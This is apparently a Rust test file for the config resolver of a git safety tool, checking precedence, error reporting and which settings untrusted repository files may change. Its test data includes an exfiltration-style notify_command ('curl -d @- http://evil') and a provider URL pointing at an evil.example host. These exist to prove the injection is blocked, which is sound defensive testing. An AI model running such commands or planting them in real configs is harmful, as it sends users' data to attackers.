//! Config tests: precedence, errors with file and line, the trust table.

use super::*;
use crate::platform::env::MapEnv;

fn user(text: &str) -> ConfigInputs {
    ConfigInputs {
        user: Some(ConfigFile {
            path: PathBuf::from("/home/u/.config/vouch/config.toml"),
            text: text.into(),
        }),
        repo: None,
    }
}

fn repo(text: &str, trusted: bool) -> ConfigInputs {
    ConfigInputs {
        user: None,
        repo: Some((
            ConfigFile {
                path: PathBuf::from("/r/.vouch.toml"),
                text: text.into(),
            },
            trusted,
        )),
    }
}

fn err(inputs: &ConfigInputs) -> String {
    let c = Config::resolve(inputs, &MapEnv::default());
    assert_eq!(c.broken.len(), 1, "{:?}", c.warnings);
    c.broken[0].to_string()
}

fn resolve(inputs: &ConfigInputs) -> Config {
    Config::resolve(inputs, &MapEnv::default())
}

#[test]
fn defaults_match_the_spec() {
    let c = Config::default();
    assert!(c.policy.protected.is_match("main"));
    assert!(c.policy.protected.is_match("release/2.0"));
    assert!(!c.policy.protected.is_match("release/2.0/hotfix"));
    assert!(!c.policy.protected.is_match("feature"));
    assert!(c.policy.release_tags.is_match("v1.2.3"));
    assert!(!c.policy.release_tags.is_match("very-nice"));
    assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask);
}

#[test]
fn unknown_key_names_file_line_key_and_accepted_keys() {
    let e = err(&user(
        "strict = true\n\n[protected]\nbranchez = [\"main\"]\n",
    ));
    assert!(e.contains("config.toml"), "{e}");
    assert!(e.contains("line 4"), "{e}");
    assert!(e.contains("`branchez`"), "{e}");
    assert!(e.contains("accepted keys"), "{e}");
    assert!(e.contains("branches"), "{e}");
}

#[test]
fn wrong_type_names_the_key_and_line() {
    let e = err(&user("strict = \"yes\"\n"));
    assert!(e.contains("line 1"), "{e}");
    assert!(e.contains("key `strict`"), "{e}");
    assert!(e.contains("bool"), "{e}");
}

#[test]
fn bad_enum_value_lists_the_accepted_values() {
    let e = err(&user("[on_unavailable]\ncritical = \"maybe\"\n"));
    assert!(e.contains("line 2"), "{e}");
    assert!(e.contains("allow") && e.contains("block"), "{e}");
}

#[test]
fn semantic_errors_name_the_line_too() {
    let e = err(&user(
        "[verifiers.tests]\ncommand = \"make test\"\ntimeout_secs = 0\n",
    ));
    assert!(
        e.contains("line 3") && e.contains("verifiers.tests.timeout_secs"),
        "{e}"
    );
    let e = err(&user("[verifiers.tests]\ncommand = \"make 'test\"\n"));
    assert!(e.contains("line 2") && e.contains("quotes"), "{e}");
    let e = err(&user("[protected]\nbranches = [\"[main\"]\n"));
    assert!(e.contains("bad glob"), "{e}");
}

#[test]
fn trusted_repo_overrides_user_policy_untrusted_only_adds() {
    let mut inputs =
        user("[tiers]\nforce_push = \"critical\"\n[protected]\nbranches = [\"main\"]\n");
    inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", true).repo;
    let c = resolve(&inputs);
    assert_eq!(c.policy.tiers.force_push, Tier::Critical);
    assert!(c.policy.protected.is_match("prod"));
    assert!(!c.policy.protected.is_match("main"));
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", false).repo;
    let c = resolve(&inputs);
    assert!(c.policy.protected.is_match("prod"), "added");
    assert!(c.policy.protected.is_match("main"), "never removed");
    assert_eq!(c.policy.protected_patterns, ["main", "prod"]);
    assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
    assert!(
        c.warnings[0].contains("protected.branches"),
        "{:?}",
        c.warnings
    );
}

#[test]
fn log_keep_defaults_to_ten_and_an_untrusted_file_may_only_raise_it() {
    let c = Config::resolve(&ConfigInputs::default(), &MapEnv::default());
    assert_eq!(c.log_keep, DEFAULT_LOG_KEEP);
    let c = Config::resolve(&user("[log]\nkeep = 3\n"), &MapEnv::default());
    assert_eq!(c.log_keep, 3);
    let c = Config::resolve(&repo("[log]\nkeep = 2\n", false), &MapEnv::default());
    assert_eq!(c.log_keep, DEFAULT_LOG_KEEP);
    assert!(c.warnings[0].contains("log.keep"), "{:?}", c.warnings);
    let c = Config::resolve(&repo("[log]\nkeep = 50\n", false), &MapEnv::default());
    assert_eq!(c.log_keep, 50);
    let c = Config::resolve(&repo("[log]\nkeep = 2\n", true), &MapEnv::default());
    assert_eq!(c.log_keep, 2);
    assert!(err(&user("[log]\nkeep = 0\n")).contains("log.keep"));
}

#[test]
fn snapshot_retention_defaults_to_100_and_14_days_and_a_repository_may_only_keep_more() {
    let c = Config::resolve(&ConfigInputs::default(), &MapEnv::default());
    assert_eq!((c.snapshot_keep, c.snapshot_days), (100, 14));
    let c = Config::resolve(
        &user("[snapshots]\nkeep = 20\ndays = 3\n"),
        &MapEnv::default(),
    );
    assert_eq!((c.snapshot_keep, c.snapshot_days), (20, 3));
    // An untrusted repository file cannot lower the user's own policy.
    let mut inputs = user("[snapshots]\nkeep = 300\ndays = 30\n");
    inputs.repo = repo("[snapshots]\nkeep = 150\ndays = 1\n", false).repo;
    let c = Config::resolve(&inputs, &MapEnv::default());
    assert_eq!((c.snapshot_keep, c.snapshot_days), (300, 30));
    assert!(
        c.warnings.iter().any(|w| w.contains("snapshots.keep"))
            && c.warnings.iter().any(|w| w.contains("snapshots.days")),
        "{:?}",
        c.warnings
    );
    // It may keep more.
    let c = Config::resolve(
        &repo("[snapshots]\nkeep = 500\ndays = 60\n", false),
        &MapEnv::default(),
    );
    assert_eq!((c.snapshot_keep, c.snapshot_days), (500, 60));
    // A trusted one decides.
    let c = Config::resolve(&repo("[snapshots]\nkeep = 5\n", true), &MapEnv::default());
    assert_eq!(c.snapshot_keep, 5);
    assert!(err(&user("[snapshots]\nkeep = \"many\"\n")).contains("snapshots.keep"));
}

#[test]
fn untrusted_repo_file_cannot_set_programs_or_paths() {
    let text = "notify_command = \"curl evil\"\n[verifiers.x]\ncommand = \"sh -c evil\"\n[log]\npath = \"/tmp/x\"\n";
    let c = resolve(&repo(text, false));
    assert!(c.verifiers.is_empty());
    assert!(c.notify_command.is_none());
    assert!(c.log_path.is_none());
    assert_eq!(c.warnings.len(), 1, "one line for the whole file");
    let line = &c.warnings[0];
    for what in [
        "`notify_command`",
        "`[verifiers]`",
        "`log.path`",
        "git vouch trust",
        "at a terminal",
        "/r/.vouch.toml",
    ] {
        assert!(line.contains(what), "{what}: {line}");
    }
    let c = resolve(&repo(text, true));
    assert_eq!(
        c.verifiers["x"].command.as_deref().unwrap(),
        ["sh", "-c", "evil"]
    );
    assert!(c.warnings.is_empty());
}

#[test]
fn environment_overrides_files() {
    let env = MapEnv::from_pairs(&[("VOUCH_VERIFY", "1"), ("VOUCH_LOG", "/x/log.jsonl")]);
    let c = Config::resolve(
        &user("verify_standard = false\n[log]\npath = \"/y\"\n"),
        &env,
    );
    assert!(c.verify_standard);
    assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
}

#[test]
fn providers_and_keys_follow_the_trust_rule() {
    let text = "[providers.anthropic]\nbase_url = \"http://evil\"\n";
    let c = resolve(&repo(text, false));
    assert!(
        c.providers.is_empty(),
        "an untrusted repository cannot point vouch elsewhere"
    );
    let c = resolve(&repo(text, true));
    assert_eq!(
        c.providers["anthropic"].base_url.as_deref(),
        Some("http://evil")
    );
    let with_key = "[providers.openai]\napi_key = \"sk-123\"\n";
    let e = err(&repo(with_key, true));
    assert!(e.contains("never from a repository file"), "{e}");
    let c = resolve(&user(with_key));
    assert!(c.providers["openai"].api_key.is_some());
    let e = err(&user("[ai]\ntimeout_secs = 0\n"));
    assert!(e.contains("ai.timeout_secs"), "{e}");
    let e = err(&user("[providers.x]\nkind = \"azure\"\n"));
    assert!(e.contains("openai-compatible"), "{e}");
}

#[test]
fn verifier_entries_layer_by_name() {
    let mut inputs = user("[verifiers.tests]\ncommand = \"make test\"\ntimeout_secs = 5\n");
    inputs.repo = repo("[verifiers.tests]\nblocking = false\n", true).repo;
    let c = resolve(&inputs);
    let v = &c.verifiers["tests"];
    assert_eq!(v.command.as_deref().unwrap(), ["make", "test"]);
    assert!(!v.blocking);
}

fn both(user_text: &str, repo_text: &str, trusted: bool) -> ConfigInputs {
    ConfigInputs {
        user: (!user_text.is_empty())
            .then(|| user(user_text).user)
            .flatten(),
        repo: repo(repo_text, trusted).repo,
    }
}

/// One setting's row of the trust table (module doc).
struct Row {
    /// The key as written in a file, dotted.
    key: String,
    /// A user config in force below the repository file ("" for none).
    base: String,
    /// A file that lowers the setting below `base` (or sets what an
    /// untrusted file may not set at all); `None` when nothing lowers it.
    lower: Option<String>,
    /// A file that makes it stricter than `base`; `None` when no value is
    /// stricter or an untrusted file may not set it at all.
    raise: Option<String>,
    /// The setting in force, for comparing.
    get: fn(&Config) -> String,
}

fn row(
    key: &str,
    base: &str,
    lower: Option<&str>,
    raise: Option<&str>,
    get: fn(&Config) -> String,
) -> Row {
    Row {
        key: key.to_owned(),
        base: base.to_owned(),
        lower: lower.map(str::to_owned),
        raise: raise.map(str::to_owned),
        get,
    }
}

fn toml_list(patterns: &[String]) -> String {
    let quoted: Vec<String> = patterns.iter().map(|p| format!("\"{p}\"")).collect();
    format!("[{}]", quoted.join(", "))
}

fn default_list(name: &str) -> Vec<String> {
    COMMIT_GLOBS
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, p)| strings(p))
        .unwrap()
}

fn verifiers(c: &Config) -> String {
    let shown: Vec<_> = c
        .verifiers
        .iter()
        .map(|(n, v)| (n, &v.command, v.enabled, v.blocking))
        .collect();
    format!("{shown:?}")
}

/// Every setting of the file format, with what lowers and raises it.
fn rows() -> Vec<Row> {
    let mut rows = vec![
        row("mode", "", Some("mode = \"observe\""), None, |c| {
            format!("{:?}", c.mode)
        }),
        row(
            "strict",
            "strict = true",
            Some("strict = false"),
            None,
            |c| c.strict.to_string(),
        ),
        row("strict", "", None, Some("strict = true"), |c| {
            c.strict.to_string()
        }),
        row(
            "verify_standard",
            "verify_standard = true",
            Some("verify_standard = false"),
            None,
            |c| c.verify_standard.to_string(),
        ),
        row(
            "verify_standard",
            "",
            None,
            Some("verify_standard = true"),
            |c| c.verify_standard.to_string(),
        ),
        row(
            "log_all",
            "log_all = true",
            Some("log_all = false"),
            None,
            |c| c.log_all.to_string(),
        ),
        row("log_all", "", None, Some("log_all = true"), |c| {
            c.log_all.to_string()
        }),
        row(
            "notify_command",
            "",
            Some("notify_command = \"curl -d @- http://evil\""),
            None,
            |c| format!("{:?}", c.notify_command),
        ),
        row(
            "protected.remote_head",
            "",
            Some("[protected]\nremote_head = false"),
            None,
            |c| c.policy.remote_head.to_string(),
        ),
        row(
            "thresholds.mass_ref_changes",
            "",
            Some("[thresholds]\nmass_ref_changes = 1000"),
            Some("[thresholds]\nmass_ref_changes = 1"),
            |c| c.policy.mass_ref_changes.to_string(),
        ),
        row(
            "verifiers",
            "",
            Some("[verifiers.always]\ncommand = \"true\""),
            None,
            verifiers,
        ),
        row(
            "verifiers",
            "[verifiers.tests]\ncommand = \"make test\"",
            Some("[verifiers.tests]\nenabled = false"),
            None,
            verifiers,
        ),
        row(
            "log.path",
            "",
            Some("[log]\npath = \"/dev/null\""),
            None,
            |c| format!("{:?}", c.log_path),
        ),
        row(
            "log.max_bytes",
            "",
            Some("[log]\nmax_bytes = 4096"),
            Some("[log]\nmax_bytes = 1000000000"),
            |c| c.log_max_bytes.to_string(),
        ),
        row(
            "log.keep",
            "",
            Some("[log]\nkeep = 1"),
            Some("[log]\nkeep = 50"),
            |c| c.log_keep.to_string(),
        ),
        row("ai.enabled", "", Some("[ai]\nenabled = false"), None, |c| {
            c.ai.enabled.to_string()
        }),
        row(
            "ai.order",
            "",
            Some("[ai]\norder = [\"openai\"]"),
            None,
            |c| format!("{:?}", c.ai.order),
        ),
        row(
            "ai.timeout_secs",
            "",
            Some("[ai]\ntimeout_secs = 1"),
            None,
            |c| c.ai.timeout_secs.to_string(),
        ),
        row(
            "ai.timeout_secs",
            "",
            Some("[ai]\ntimeout_secs = 3600"),
            None,
            |c| c.ai.timeout_secs.to_string(),
        ),
        row(
            "ai.connect_timeout_secs",
            "",
            Some("[ai]\nconnect_timeout_secs = 1"),
            None,
            |c| c.ai.connect_timeout_secs.to_string(),
        ),
        row(
            "ai.cache_secs",
            "",
            Some("[ai]\ncache_secs = 999999"),
            Some("[ai]\ncache_secs = 0"),
            |c| c.ai.cache_secs.to_string(),
        ),
        row(
            "ai.max_output_tokens",
            "",
            Some("[ai]\nmax_output_tokens = 64"),
            None,
            |c| c.ai.max_output_tokens.to_string(),
        ),
        row(
            "ai.temperature",
            "",
            Some("[ai]\ntemperature = 2.0"),
            None,
            |c| format!("{:?}", c.ai.temperature),
        ),
        row(
            "providers",
            "",
            Some("[providers.anthropic]\nbase_url = \"http://evil.example\""),
            None,
            |c| format!("{:?}", c.providers),
        ),
        row(
            "prices",
            "",
            Some("[prices.gpt-5]\ninput_per_mtok = 0.0\noutput_per_mtok = 0.0"),
            None,
            |c| format!("{:?}", c.prices),
        ),
        row(
            "rules",
            "",
            None,
            Some("[[rules]]\npattern = \"make deploy\"\ntier = \"critical\"\nreason = \"deploys\""),
            |c| format!("{:?}", c.rules),
        ),
        row(
            "snapshots.keep",
            "",
            Some("[snapshots]\nkeep = 1"),
            Some("[snapshots]\nkeep = 500"),
            |c| c.snapshot_keep.to_string(),
        ),
        row(
            "snapshots.days",
            "",
            Some("[snapshots]\ndays = 0"),
            Some("[snapshots]\ndays = 60"),
            |c| c.snapshot_days.to_string(),
        ),
        row(
            "agent.budget_secs",
            "",
            Some("[agent]\nbudget_secs = 3600"),
            None,
            |c| c.agent_budget_secs.to_string(),
        ),
        row(
            "agent.budget_secs",
            "",
            Some("[agent]\nbudget_secs = 1"),
            None,
            |c| c.agent_budget_secs.to_string(),
        ),
    ];
    for (key, list) in [
        ("branches", DEFAULT_PROTECTED),
        ("release_tags", DEFAULT_RELEASE_TAGS),
    ] {
        let mut more = strings(list);
        more.push("hotfix/*".into());
        rows.push(row(
            &format!("protected.{key}"),
            "",
            Some(&format!("[protected]\n{key} = []")),
            Some(&format!("[protected]\n{key} = {}", toml_list(&more))),
            |c| {
                format!(
                    "{:?} {:?} {}",
                    c.policy.protected_patterns,
                    c.policy.release_tag_patterns,
                    c.policy.protected.is_match("main")
                )
            },
        ));
    }
    for level in ["critical", "high", "standard"] {
        rows.push(row(
            &format!("on_unavailable.{level}"),
            &format!("[on_unavailable]\n{level} = \"ask\""),
            Some(&format!("[on_unavailable]\n{level} = \"allow\"")),
            Some(&format!("[on_unavailable]\n{level} = \"block\"")),
            |c| format!("{:?}", c.on_unavailable),
        ));
    }
    for key in [
        "force_push_protected",
        "force_push_unseen",
        "force_push",
        "delete_protected",
        "delete_branch",
        "tag_move",
        "release_tag_move",
        "mass_ref_changes",
        "push_protected",
        "local_rewind",
        "local_rewind_reachable",
        "local_rewrite",
        "local_delete",
        "local_tag",
        "stash_drop",
    ] {
        rows.push(row(
            &format!("tiers.{key}"),
            &format!("[tiers]\n{key} = \"standard\""),
            Some(&format!("[tiers]\n{key} = \"none\"")),
            Some(&format!("[tiers]\n{key} = \"critical\"")),
            |c| format!("{:?}", c.policy.tiers),
        ));
    }
    for (key, _) in COMMIT_TIERS {
        rows.push(row(
            &format!("commit.tiers.{key}"),
            &format!("[commit.tiers]\n{key} = \"standard\""),
            Some(&format!("[commit.tiers]\n{key} = \"none\"")),
            Some(&format!("[commit.tiers]\n{key} = \"critical\"")),
            |c| format!("{:?}", c.commit.tiers),
        ));
    }
    for key in [
        "bulk_deleted_files",
        "bulk_deleted_lines",
        "large_files",
        "large_lines",
    ] {
        rows.push(row(
            &format!("commit.{key}"),
            "",
            Some(&format!("[commit]\n{key} = 100000")),
            Some(&format!("[commit]\n{key} = 1")),
            |c| {
                let r = &c.commit;
                format!(
                    "{} {} {} {}",
                    r.bulk_deleted_files, r.bulk_deleted_lines, r.large_files, r.large_lines
                )
            },
        ));
    }
    let commit_globs = |c: &Config| {
        let r = &c.commit;
        format!(
            "{:?}",
            [
                &r.migrations,
                &r.migration_exceptions,
                &r.generated,
                &r.credentials,
                &r.credential_exceptions,
                &r.ci,
                &r.infrastructure,
                &r.manifests,
            ]
            .map(Globs::patterns)
        )
    };
    for key in [
        "migrations",
        "credentials",
        "ci",
        "infrastructure",
        "manifests",
    ] {
        let mut more = default_list(key);
        more.push("**/extra/**".into());
        rows.push(row(
            &format!("commit.{key}"),
            "",
            Some(&format!("[commit]\n{key} = []")),
            Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
            commit_globs,
        ));
    }
    for key in ["migration_exceptions", "generated", "credential_exceptions"] {
        let fewer = default_list(key)[..1].to_vec();
        let mut more = default_list(key);
        more.push("**/*".into());
        rows.push(row(
            &format!("commit.{key}"),
            "",
            Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
            Some(&format!("[commit]\n{key} = {}", toml_list(&fewer))),
            commit_globs,
        ));
    }
    rows
}

/// Who may set each setting, and in which direction: the user config
/// and a trusted repository file may lower it; an untrusted repository
/// file may only raise it, and what it cannot set is named in one line.
#[test]
fn who_may_set_what() {
    for r in rows() {
        let key = &r.key;
        let base = resolve(&both(&r.base, "", false));
        assert!(base.broken.is_empty(), "{key}: {:?}", base.warnings);
        let in_force = (r.get)(&base);
        if let Some(lower) = &r.lower {
            let by_user = resolve(&user(lower));
            assert!(by_user.broken.is_empty(), "{key}: {:?}", by_user.warnings);
            let trusted = resolve(&both(&r.base, lower, true));
            assert!(trusted.warnings.is_empty(), "{key}: {:?}", trusted.warnings);
            assert_ne!(
                (r.get)(&trusted),
                in_force,
                "{key}: a trusted file may lower it"
            );
            if r.base.is_empty() {
                assert_eq!(
                    (r.get)(&trusted),
                    (r.get)(&by_user),
                    "{key}: a trusted file sets what the user config sets"
                );
            }
            let untrusted = resolve(&both(&r.base, lower, false));
            assert_eq!(
                (r.get)(&untrusted),
                in_force,
                "{key}: an untrusted file cannot lower it ({lower})"
            );
            assert_eq!(
                untrusted.warnings.len(),
                1,
                "{key}: {:?}",
                untrusted.warnings
            );
            let line = &untrusted.warnings[0];
            let named = key.split('.').next_back().unwrap();
            assert!(line.contains(named), "{key}: {line}");
            assert!(
                line.contains("git vouch trust") && line.contains("at a terminal"),
                "{line}"
            );
            assert!(untrusted.broken.is_empty());
        }
        if let Some(raise) = &r.raise {
            for trusted in [false, true] {
                let c = resolve(&both(&r.base, raise, trusted));
                assert!(c.warnings.is_empty(), "{key}: {:?}", c.warnings);
                assert_ne!(
                    (r.get)(&c),
                    in_force,
                    "{key}: any file may raise it ({raise})"
                );
            }
        }
        // Restating the value in force is no lowering: no line (programs
        // and providers are tables, always named).
        let tables = ["verifiers", "providers"];
        for same in r
            .lower
            .iter()
            .chain(&r.raise)
            .filter(|_| !tables.contains(&key.as_str()))
        {
            let mut inputs = user(same);
            inputs.repo = repo(same, false).repo;
            let c = resolve(&inputs);
            assert!(c.warnings.is_empty(), "{key} restated: {:?}", c.warnings);
        }
    }
}

/// The accepted keys of one table, read from the error an unknown key draws.
fn accepted_keys(table: &str) -> Vec<String> {
    let text = if table.is_empty() {
        "zzz_unknown = 1\n".to_owned()
    } else {
        format!("[{table}]\nzzz_unknown = 1\n")
    };
    let e = err(&user(&text));
    let list = e
        .split_once("accepted")
        .expect("an unknown-key error lists the keys")
        .1;
    list.split('`')
        .skip(1)
        .step_by(2)
        .map(|k| {
            if table.is_empty() {
                k.to_owned()
            } else {
                format!("{table}.{k}")
            }
        })
        .collect()
}

#[test]
fn every_setting_has_a_decision() {
    let keys: Vec<String> = rows().into_iter().map(|r| r.key).collect();
    let mut seen = 0;
    for table in [
        "",
        "protected",
        "thresholds",
        "tiers",
        "on_unavailable",
        "log",
        "ai",
        "commit",
        "commit.tiers",
        "agent",
        "snapshots",
    ] {
        for key in accepted_keys(table) {
            seen += 1;
            // A table is decided by its keys' rows; `verifiers.NAME`,
            // `providers.NAME`, `prices.NAME` and `[[rules]]` as a whole.
            let decided = keys
                .iter()
                .any(|k| *k == key || k.starts_with(&format!("{key}.")));
            assert!(
                decided,
                "no trust decision for `{key}`: add a row and a line to the module doc"
            );
        }
    }
    assert!(seen > 60, "{seen} keys read");
}

#[test]
fn environment_only_raises_except_what_stands_in_for_the_user() {
    let file = user("verify_standard = true\nstrict = true\n");
    let off = MapEnv::from_pairs(&[("VOUCH_VERIFY", "0"), ("VOUCH_STRICT", "false")]);
    let c = Config::resolve(&file, &off);
    assert!(c.verify_standard && c.strict, "`0` leaves the files' value");
    let on = MapEnv::from_pairs(&[("VOUCH_VERIFY", "1"), ("VOUCH_STRICT", "1")]);
    let c = Config::resolve(&repo("verify_standard = false\n", true), &on);
    assert!(c.verify_standard && c.strict, "above every file");
    // `VOUCH_LOG` stands in for the user and wins over every file.
    let log = MapEnv::from_pairs(&[("VOUCH_LOG", "/x/log.jsonl")]);
    let c = Config::resolve(&repo("[log]\npath = \"/r/log\"\n", true), &log);
    assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
}

#[test]
fn an_untrusted_file_lowering_many_settings_draws_one_line() {
    let text = "mode = \"observe\"\n[tiers]\nforce_push_protected = \"none\"\nlocal_delete = \"none\"\n[protected]\nbranches = []\n[on_unavailable]\ncritical = \"allow\"\n";
    let c = resolve(&repo(text, false));
    assert_eq!(c.mode, Mode::Enforce);
    assert_eq!(c.policy.tiers.force_push_protected, Tier::Critical);
    assert_eq!(c.policy.tiers.local_delete, Tier::Critical);
    assert!(c.policy.protected.is_match("main"));
    assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask);
    assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
    let line = &c.warnings[0];
    for what in [
        "`mode = \"observe\"`",
        "`tiers.force_push_protected = \"none\"`",
        "`tiers.local_delete = \"none\"`",
        "`protected.branches`",
        "`on_unavailable.critical = \"allow\"`",
    ] {
        assert!(line.contains(what), "{what}: {line}");
    }
    assert!(!line.contains('\n'));
}

/// Issue 26 item 8: a typo drops its key alone; the user's strict policy
/// stays in force.
#[test]
fn a_bad_key_is_dropped_alone_and_the_rest_applies() {
    let strict = "[on_unavailable]\ncritical = \"block\"\nhigh = \"block\"\n";
    // Every way of getting one key wrong, each beside the strict policy.
    for (bad, key, line) in [
        ("branchez = [\"main\"]", "protected.branchez", 5),
        ("branches = \"main\"", "protected.branches", 5),
        ("branches = [\"main\", 3]", "protected.branches", 5),
        ("branches = [\"[main\"]", "protected.branches", 5),
        ("remote_head = \"yes\"", "protected.remote_head", 5),
    ] {
        let text = format!("{strict}[protected]\n{bad}\nrelease_tags = [\"r*\"]\n");
        let c = resolve(&user(&text));
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Block, "{bad}");
        assert_eq!(c.on_unavailable.high, OnUnavailable::Block, "{bad}");
        assert!(
            c.policy.release_tags.is_match("r1"),
            "the next key applies: {bad}"
        );
        assert!(
            c.policy.protected.is_match("main"),
            "the default stays: {bad}"
        );
        assert_eq!(c.broken.len(), 1, "{bad}: {:?}", c.broken);
        let e = c.broken[0].to_string();
        assert!(
            e.contains("config.toml") && e.contains(&format!("line {line}")),
            "{bad}: {e}"
        );
        assert!(e.contains(&format!("key `{key}`")), "{bad}: {e}");
        assert!(!c.broken[0].is_whole_file());
        assert!(
            c.warnings
                .iter()
                .any(|w| w.contains("only this key is dropped")),
            "said on every run: {:?}",
            c.warnings
        );
    }
    // Top-level keys, values of the wrong type and invalid values.
    for (bad, key) in [
        ("strict = \"yes\"", "strict"),
        ("mode = \"off\"", "mode"),
        ("verify_standard = 1", "verify_standard"),
        ("notify_command = \"say 'hi\"", "notify_command"),
        ("[ai]\ntimeout_secs = 0", "ai.timeout_secs"),
        ("[ai]\ntemperature = 9.0", "ai.temperature"),
        ("[ai]\nenabeld = false", "ai.enabeld"),
        ("[log]\nkeep = 0", "log.keep"),
        ("[agent]\nbudget_secs = \"ten\"", "agent.budget_secs"),
        ("[tiers]\nforce_push = \"urgent\"", "tiers.force_push"),
        ("[commit]\nci = [\"[\"]", "commit.ci"),
        (
            "[verifiers.tests]\ncommand = \"make 'test\"",
            "verifiers.tests.command",
        ),
        (
            "[[rules]]\npattern = \"git frob\"\ntier = \"hihg\"\nreason = \"r\"",
            "rules[0]",
        ),
        ("[[rules]]\npatern = \"git frob\"", "rules[0]"),
        (
            "[providers.\"my.server\"]\nmodle = \"m\"",
            "providers.my.server.modle",
        ),
    ] {
        let c = resolve(&user(&format!("{strict}{bad}\n")));
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Block, "{bad}");
        assert_eq!(c.on_unavailable.high, OnUnavailable::Block, "{bad}");
        assert_eq!(c.broken.len(), 1, "{bad}: {:?}", c.broken);
        let e = c.broken[0].to_string();
        assert!(e.contains(&format!("key `{key}`")), "{bad}: {e}");
    }
    // Of several rules, only the broken one is dropped; a second error in
    // the same file is named too.
    let c = resolve(&user(
        "[[rules]]\npattern = \"git frob\"\ntier = \"critical\"\nreason = \"r\"\n[[rules]]\npattern = \"git x\"\ntier = \"hihg\"\nreason = \"r\"\n[[rules]]\npattern = \"git zap\"\ntier = \"high\"\nreason = \"r\"\nbogus = 1\n",
    ));
    let kept: Vec<&str> = c.rules.iter().map(|r| r.pattern.as_str()).collect();
    assert_eq!(kept, ["git frob"], "{:?}", c.broken);
    let named: Vec<String> = c.broken.iter().map(ToString::to_string).collect();
    assert!(
        named[0].contains("rules[1]") && named[0].contains("line 7"),
        "{named:?}"
    );
    assert!(named[1].contains("rules[2]"), "{named:?}");
}

/// Issue 26 item 8: a file that cannot be read as a whole is ignored, and
/// until it is fixed critical and high operations wait for a verdict.
#[test]
fn an_unparsable_file_holds_risky_work() {
    for text in [
        "[on_unavailable\ncritical = \"allow\"\n",
        "strict = maybe\n",
        "mode = \"enforce\"\nmode = \"observe\"\n",
        "\u{0}",
    ] {
        let c = resolve(&user(text));
        assert_eq!(c.on_unavailable.critical, OnUnavailable::Block, "{text:?}");
        assert_eq!(c.on_unavailable.high, OnUnavailable::Block, "{text:?}");
        assert_eq!(c.on_unavailable.standard, OnUnavailable::Allow, "{text:?}");
        assert_eq!(c.broken.len(), 1);
        assert!(c.broken[0].is_whole_file());
        let line = &c.warnings[0];
        assert!(
            line.contains("config.toml") && line.contains("cannot be parsed"),
            "{line}"
        );
        assert!(line.contains("on_unavailable = \"block\""), "{line}");
        assert!(!line.contains("no-verify"), "{line}");
    }
    // A trusted repository file read later cannot lower the hold.
    let mut inputs = user("strict = maybe\n");
    inputs.repo = repo(
        "mode = \"observe\"\n[on_unavailable]\ncritical = \"allow\"\nhigh = \"allow\"\n",
        true,
    )
    .repo;
    let c = resolve(&inputs);
    assert_eq!(c.on_unavailable.critical, OnUnavailable::Block);
    assert_eq!(c.on_unavailable.high, OnUnavailable::Block);
    // The same for a repository's file, trusted or not: the user's config
    // stays in force, and risky work waits.
    for trusted in [true, false] {
        let mut inputs = user("[tiers]\nforce_push = \"critical\"\n");
        inputs.repo = repo("[protected\nbranches = []\n", trusted).repo;
        let c = resolve(&inputs);
        assert_eq!(c.policy.tiers.force_push, Tier::Critical);
        assert_eq!(c.on_unavailable.high, OnUnavailable::Block);
        assert!(
            c.warnings[0].contains("/r/.vouch.toml") && c.warnings[0].contains("line 1"),
            "{:?}",
            c.warnings
        );
        assert!(c.warnings[0].contains("the user config and the defaults"));
    }
    // An unreadable file (said by the caller that read it) holds too.
    let mut c = resolve(&ConfigInputs::default());
    c.ignore_broken(
        ConfigError::Unreadable {
            path: "/home/u/.config/vouch/config.toml".into(),
            message: "Permission denied".into(),
        },
        Source::User,
    );
    assert_eq!(c.on_unavailable.high, OnUnavailable::Block);
}

#[test]
fn every_built_in_glob_is_valid() {
    // The built-in sets are parsed on first use; a bad pattern would panic there.
    let lists = [DEFAULT_PROTECTED, DEFAULT_RELEASE_TAGS]
        .into_iter()
        .chain(COMMIT_GLOBS.iter().map(|(_, p)| *p));
    for list in lists {
        for p in list {
            assert!(glob(p).is_ok(), "{p}");
        }
    }
    let rules = CommitRules::default();
    assert!(rules.migrations.is_match("db/migrations/001.sql"));
    assert!(!rules.migrations.is_match("src/main.rs"));
    assert!(Policy::default().protected.is_match("main"));
}

/// The built-in defaults are data (`defaults.toml`, compiled in by
/// build.rs): the file parses, every table the build reads is there, and
/// what it says is what a config that sets nothing gets.
#[test]
fn the_defaults_file_is_what_an_empty_config_means() {
    let text = include_str!("defaults.toml");
    let value: toml::Table = toml::from_str(text).expect("defaults.toml parses");
    let tiers = value["tiers"].as_table().unwrap();
    assert_eq!(tiers.len(), 15, "one entry per TierTable field");
    assert_eq!(tiers["force_push_protected"].as_str(), Some("critical"));
    let c = Config::default();
    assert_eq!(c.policy.tiers.force_push_protected, Tier::Critical);
    assert_eq!(c.policy.tiers.local_rewind_reachable, Tier::Standard);
    assert_eq!(c.policy.tiers.push_protected, Tier::None);
    assert_eq!(c.policy.mass_ref_changes, 5);
    assert_eq!(c.policy.protected_patterns[0], "main");
    let commit = value["commit"].as_table().unwrap();
    assert_eq!(
        commit["globs"].as_table().unwrap().len(),
        COMMIT_GLOBS.len()
    );
    assert_eq!(COMMIT_GLOBS.len(), 8);
    assert_eq!(c.commit.tier("destructive_sql"), Tier::Critical);
    assert_eq!(c.commit.tier("large_change"), Tier::Standard);
    assert_eq!(c.commit.bulk_deleted_files, 10);
    assert_eq!(c.commit.large_lines, 500);
    assert!(default_list("generated").contains(&"**/Cargo.lock".to_owned()));
}
